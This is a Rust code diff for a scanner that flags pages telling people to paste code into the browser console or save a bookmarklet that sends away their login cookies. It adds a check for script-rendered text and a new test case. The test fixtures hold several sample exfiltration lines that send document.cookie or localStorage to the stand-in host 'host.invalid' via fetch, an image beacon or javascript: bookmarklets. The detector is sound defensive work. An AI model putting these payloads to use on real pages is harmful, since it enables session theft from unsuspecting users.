@@ -30,12 +30,14 @@ pub(super) fn sends(page: &Page, findings: &mut Findings) {
     let kept = bookmark(page).map(|value| (value, "bookmark"));
     let value = kept.or_else(|| Some((pasted(page)?, "console")));
     let Some((value, group)) = value else { return };
-    let words = Words::of(&page.shown);
+    // A script may show the words.
+    let words = [Words::of(&page.shown), Words::of(&page.plain)];
+    let phrase = |group: &str| words.iter().find_map(|words| words.phrase(group));
     // A file of bookmarks is there to be kept.
     let exported = group == "bookmark" && page.markup.contains("netscape-bookmark-file");
     let said = match group {
-        "bookmark" => words.phrase("bookmark"),
-        _ => words.phrase("console").filter(|_| words.phrase("paste").is_some()),
+        "bookmark" => phrase("bookmark"),
+        _ => phrase("console").filter(|_| phrase("paste").is_some()),
     };
     let Some(said) = said.or_else(|| exported.then(|| "bookmarks".to_owned())) else { return };
     let message = "the page has people run code that sends away what keeps them signed in";
@@ -91,6 +93,7 @@ mod tests {
         for text in [
             "<p>Press F12, open the Console, type \"allow pasting\", paste the code</p><button onclick=\"navigator.clipboard.writeText('fetch(&quot;https://host.invalid/?c=&quot;+document.cookie)')\">Copy</button>",
             "<p>Press Ctrl+Shift+J and type allow pasting. Then paste it:</p><pre>fetch(\"https://host.invalid\", {method: \"POST\", body: JSON.stringify(localStorage)})</pre>",
+            "<script>root.innerHTML = '<p>Press F12, paste the code</p>'; navigator.clipboard.writeText('fetch(\"https://host.invalid/?\" + document.cookie)')</script>",
             "<p>Drag this button to your bookmarks bar:</p><a href=\"javascript:(function(){fetch('https://host.invalid/?'+document.cookie)})()\">Verify</a>",
             "<p>Drag it to your bookmarks</p><a href='javascript:var%20c=document.cookie;new%20Image().src=%22https://host.invalid/?%22+c'>a</a>",
             "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><DT><A HREF=\"javascript:fetch(`//host.invalid/?${document.cookie}`)\">Mail</A></DL>",
